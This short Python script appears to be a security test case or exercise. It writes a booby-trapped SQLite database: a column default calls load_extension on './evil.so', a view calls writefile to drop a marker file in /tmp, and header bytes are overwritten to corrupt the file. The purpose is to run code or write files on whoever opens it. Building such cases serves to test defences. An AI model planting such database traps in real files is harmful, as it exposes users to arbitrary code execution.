"""Leave a database that asks whoever opens it to load a library and to write a file.

outcome: not_yet
class: artefacts
exercise: toy-store
"""

import sqlite3

with sqlite3.connect("store.sqlite") as connection:
    connection.execute("pragma writable_schema = on")
    connection.execute("create table other (sensor text default (load_extension('./evil.so')), total real)")
    connection.execute("create view totals as select writefile('/tmp/tenfold-was-here', 'x') as sensor, 1 as total")
    connection.execute("insert into other (total) select 1 where 0")
with open("store.sqlite", "r+b") as file:
    file.seek(100)
    file.write(b"\xff" * 50)
